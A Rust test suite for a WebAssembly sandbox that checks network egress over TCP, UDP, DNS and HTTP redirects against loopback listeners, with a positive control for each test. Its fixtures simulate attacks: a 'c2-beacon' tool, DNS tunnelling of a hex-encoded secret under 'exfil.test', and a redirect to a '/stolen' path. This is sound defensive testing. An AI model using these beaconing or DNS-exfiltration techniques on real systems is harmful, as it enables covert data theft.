//! Network egress of WebAssembly tools, judged by what real loopback listeners received.
//! Every denial has a positive control: the same attack with the capability granted reaches
//! the listener, so these tests fail if enforcement is switched off.
#![allow(clippy::unwrap_used, clippy::expect_used)]

mod support;
use support::*;

#[test]
fn tcp_by_ip_reaches_only_a_declared_endpoint() {
    let sink = TcpSink::start("127.0.0.1");
    let target = sink.addr.to_string();
    let ping = tool("tcp-ping");

    let denied = run(&["run", s(&ping), "--", &target, "undeclared"]);
    assert_eq!(denied.code, 1, "{}", denied.stderr);
    assert_eq!(sink.connections(), 0, "listener must see nothing: {}", sink.received());
    assert!(
        denied
            .stderr
            .contains(&format!("denied: connect tcp://{target} (not declared); to allow: --allow-net {target}"))
    );
    assert_eq!(denied.denials("net.connect").len(), 1);

    let allowed = run(&["run", "--allow-net", &target, s(&ping), "--", &target, "declared"]);
    assert_eq!(allowed.code, 0, "{}", allowed.stderr);
    assert_eq!(allowed.stdout.trim(), "reply: pong");
    assert!(sink.received().contains("declared\n"));
}

#[test]
fn other_port_and_other_ip_on_the_same_port_are_refused() {
    let a = TcpSink::start("127.0.0.1");
    let b = TcpSink::start("127.0.0.2");
    let ping = tool("tcp-ping");
    let declared = a.addr.to_string();
    // Same IP, another port.
    let other_port = TcpSink::start("127.0.0.1");
    let r = run(&["run", "--allow-net", &declared, s(&ping), "--", &other_port.addr.to_string(), "x1"]);
    assert_eq!(r.code, 1);
    assert_eq!(other_port.connections(), 0);
    // Another IP on a declared port: b's own port, declared on 127.0.0.1.
    let same_port = format!("127.0.0.1:{}", b.addr.port());
    let r = run(&["run", "--allow-net", &same_port, s(&ping), "--", &b.addr.to_string(), "x2"]);
    assert_eq!(r.code, 1, "{}", r.stderr);
    assert_eq!(b.connections(), 0);
    // Positive controls: the declared one works, and so do the two refused when declared.
    assert_eq!(run(&["run", "--allow-net", &declared, s(&ping), "--", &declared, "ok"]).code, 0);
    assert!(a.received().contains("ok"));
    let target = other_port.addr.to_string();
    assert_eq!(run(&["run", "--allow-net", &target, s(&ping), "--", &target, "ok-port"]).code, 0);
    assert!(other_port.received().contains("ok-port"));
    let r = run(&["run", "--allow-net", &b.addr.to_string(), s(&ping), "--", &b.addr.to_string(), "ok-b"]);
    assert_eq!(r.code, 0, "{}", r.stderr);
    assert!(b.received().contains("ok-b"));
}

#[test]
fn ipv6_loopback_is_checked_too() {
    let sink = TcpSink::start("::1");
    let target = format!("[::1]:{}", sink.addr.port());
    let beacon = tool("c2-beacon");
    let r = run(&["run", s(&beacon), "--ipv6", &target]);
    assert_eq!(r.code, 3, "{}{}", r.stdout, r.stderr);
    assert!(r.stdout.contains("ipv6: blocked"));
    assert!(sink.received().is_empty());
    let r = run(&["run", "--allow-net", &target, s(&beacon), "--ipv6", &target]);
    assert_eq!(r.code, 0, "{}{}", r.stdout, r.stderr);
    assert!(sink.received().contains("beacon:c2-beacon"));
}

#[test]
fn names_resolving_to_private_addresses_are_refused_unless_pinned() {
    let sink = TcpSink::start("127.0.0.1");
    let port = sink.addr.port();
    let ping = tool("tcp-ping");
    // The resolver answers loopback for every name.
    let dns = DnsSink::start(Some("127.0.0.1".parse().unwrap()));
    let resolver = dns.addr.to_string();
    let ep = format!("svc.example.net:{port}");
    // `svc.example.net` is declared, but resolves to loopback: DNS-rebinding guard.
    let r = run(&["run", "--resolver", &resolver, "--allow-net", &ep, s(&ping), "--", &ep, "rebound"]);
    assert_eq!(r.code, 1, "{}", r.stderr);
    assert!(sink.received().is_empty());
    assert!(r.stderr.contains("--resolve svc.example.net:127.0.0.1"), "{}", r.stderr);
    // Pinned explicitly, it is allowed.
    let pin = ["--resolve", "svc.example.net:127.0.0.1"];
    let r = run(&["run", "--resolver", &resolver, "--allow-net", &ep, pin[0], pin[1], s(&ping), "--", &ep, "pinned"]);
    assert_eq!(r.code, 0, "{}", r.stderr);
    assert!(sink.received().contains("pinned"));
    // `localhost` is loopback by definition (issue 11): no resolver asked, no pin needed.
    let local = format!("localhost:{port}");
    let r = run(&["run", "--resolver", &resolver, "--allow-net", &local, s(&ping), "--", &local, "local"]);
    assert_eq!(r.code, 0, "{}", r.stderr);
    assert!(sink.received().contains("local"));
    // A and AAAA in the first run only: a pinned name is not asked about, nor is localhost.
    assert_eq!(dns.questions(), ["svc.example.net"; 2]);
}

#[test]
fn undeclared_names_send_no_dns_query() {
    // DNS tunnelling: the secret rides in the name being looked up.
    let dns = DnsSink::start(Some("127.0.0.1".parse().unwrap()));
    let resolver = dns.addr.to_string();
    let beacon = tool("c2-beacon");
    let r = run(&["run", "--resolver", &resolver, s(&beacon), "--dns", "exfil.test"]);
    assert_eq!(r.code, 3, "{}{}", r.stdout, r.stderr);
    assert!(r.stdout.contains("dns: blocked"));
    assert!(dns.questions().is_empty(), "no query may leave: {:?}", dns.questions());
    assert_eq!(r.denials("net.dns")[0]["target"], "736563726574.exfil.test");
    // Positive control: with the name pattern declared, the query (and the secret) reaches the server.
    let r = run(&[
        "run",
        "--resolver",
        &resolver,
        "--allow-net",
        "*.exfil.test:443",
        "--allow-net",
        "127.0.0.1:443",
        s(&beacon),
        "--dns",
        "exfil.test",
    ]);
    assert_eq!(r.code, 0, "{}{}", r.stdout, r.stderr);
    assert!(dns.questions().iter().any(|q| q == "736563726574.exfil.test"));
}

#[test]
fn udp_datagrams_need_a_udp_endpoint() {
    let sink = UdpSink::start();
    let target = sink.addr.to_string();
    let beacon = tool("c2-beacon");
    let r = run(&["run", s(&beacon), "--udp", &target]);
    assert_eq!(r.code, 3, "{}{}", r.stdout, r.stderr);
    // A tcp:// endpoint does not cover UDP.
    let r2 = run(&["run", "--allow-net", &format!("tcp://{target}"), s(&beacon), "--udp", &target]);
    assert_eq!(r2.code, 3, "{}{}", r2.stdout, r2.stderr);
    // A UDP endpoint on another port lets the socket bind, but not send here. (wasi's send is
    // asynchronous: the guest may see its send succeed while the datagram is dropped, so the
    // listener and the audit log are the judges.)
    let r3 = run(&["run", "--allow-net", "udp://127.0.0.1:9", s(&beacon), "--udp", &target]);
    assert_eq!(r3.denials("net.connect")[0]["target"], format!("udp://{target}"));
    assert!(sink.received().is_empty());
    let r = run(&["run", "--allow-net", &format!("udp://{target}"), s(&beacon), "--udp", &target]);
    assert_eq!(r.code, 0, "{}{}", r.stdout, r.stderr);
    assert_eq!(sink.received(), vec!["beacon:c2-beacon"]);
}

#[test]
fn c2_beacon_is_blocked_on_every_channel_under_its_policy() {
    let tcp = TcpSink::start("127.0.0.1");
    let udp = UdpSink::start();
    let dns = DnsSink::start(Some("127.0.0.1".parse().unwrap()));
    let beacon = tool("c2-beacon");
    let (t, u, port) = (tcp.addr.to_string(), udp.addr.to_string(), tcp.addr.port());
    let name = format!("c2.example.net:{port}");
    let channels =
        ["--tcp-ip", t.as_str(), "--tcp-name", name.as_str(), "--dns", "c2.example.net", "--udp", u.as_str()];
    let resolver = dns.addr.to_string();

    let mut args = vec!["run", "--resolver", &resolver, "--policy"];
    let pol = policy("c2-beacon");
    args.push(s(&pol));
    args.push(s(&beacon));
    args.extend(channels);
    let blocked = run(&args);
    assert_eq!(blocked.code, 3, "{}{}", blocked.stdout, blocked.stderr);
    assert_eq!(blocked.stdout.matches(": blocked").count(), 4, "{}", blocked.stdout);
    assert!(tcp.received().is_empty() && udp.received().is_empty() && dns.questions().is_empty());

    // Positive control: everything granted (the C2 name pinned to the loopback listener).
    let (udp_ep, pin, sub) =
        (format!("udp://{u}"), "c2.example.net:127.0.0.1".to_string(), "*.c2.example.net:1".to_string());
    let mut args = vec!["run", "--resolver", &resolver, "--allow-net", &t, "--allow-net", &name, "--resolve", &pin];
    args.extend(["--allow-net", &udp_ep, "--allow-net", &sub, s(&beacon)]);
    args.extend(channels);
    let open = run(&args);
    assert_eq!(open.code, 0, "{}{}", open.stdout, open.stderr);
    assert_eq!(open.stdout.matches(": ok").count(), 4, "{}", open.stdout);
    assert_eq!(tcp.received().matches("beacon:c2-beacon").count(), 2);
    assert_eq!(udp.received().len(), 1);
    assert!(!dns.questions().is_empty());
}

#[test]
fn http_requests_are_checked_per_origin_including_redirects() {
    let other = HttpSink::start(None);
    let first = HttpSink::start(Some(other.url("/stolen")));
    let get = tool("http-get");
    let first_origin = format!("http://{}", first.addr);

    let r = run(&["run", s(&get), &first.url("/")]);
    assert_eq!(r.code, 1, "{}", r.stderr);
    assert!(first.requests().is_empty());
    assert_eq!(r.denials("net.http")[0]["hint"], format!("--allow-net {first_origin}"));

    let r = run(&["run", "--allow-net", &first_origin, s(&get), &first.url("/")]);
    assert_eq!(r.code, 0, "{}", r.stderr);
    assert_eq!(r.stdout, format!("hello from {}", first.addr.port()));
    // The Host header is the origin the request was checked against.
    assert!(first.requests()[0].to_ascii_lowercase().contains(&format!("host: {}", first.addr)));

    // A redirect to an undeclared origin is a new request, and is refused: the first origin
    // served the redirect, its target saw nothing.
    let r = run(&["run", "--allow-net", &first_origin, s(&get), "--follow", &first.url("/redirect")]);
    assert_eq!(r.code, 1, "{}", r.stderr);
    assert!(first.requests().last().unwrap().starts_with("GET /redirect "));
    assert!(other.requests().is_empty(), "redirect target must see nothing");
    assert_eq!(r.denials("net.http")[0]["hint"], format!("--allow-net http://{}", other.addr));
    // Positive control: both origins declared, the redirect is followed.
    let other_origin = format!("http://{}", other.addr);
    let r = run(&[
        "run",
        "--allow-net",
        &first_origin,
        "--allow-net",
        &other_origin,
        s(&get),
        "--follow",
        &first.url("/redirect"),
    ]);
    assert_eq!(r.code, 0, "{}", r.stderr);
    assert!(other.requests()[0].starts_with("GET /stolen"));
}

#[test]
fn a_udp_endpoint_does_not_allow_http_and_https_does_not_allow_http() {
    let web = HttpSink::start(None);
    let get = tool("http-get");
    let r = run(&["run", "--allow-net", &format!("udp://{}", web.addr), s(&get), &web.url("/")]);
    assert_eq!(r.code, 1);
    let r = run(&["run", "--allow-net", &format!("https://{}", web.addr), s(&get), &web.url("/")]);
    assert_eq!(r.code, 1);
    assert!(web.requests().is_empty());
    // Positive controls: the http:// origin lets the same request through, and so does a
    // tcp:// endpoint (HTTP rides on TCP: the tool could dial it itself; issue 11).
    let r = run(&["run", "--allow-net", &format!("http://{}", web.addr), s(&get), &web.url("/")]);
    assert_eq!(r.code, 0, "{}", r.stderr);
    assert!(web.requests()[0].starts_with("GET / "));
    let r = run(&["run", "--allow-net", &format!("tcp://{}", web.addr), s(&get), &web.url("/tcp")]);
    assert_eq!(r.code, 0, "{}", r.stderr);
    assert!(web.requests()[1].starts_with("GET /tcp "));
}
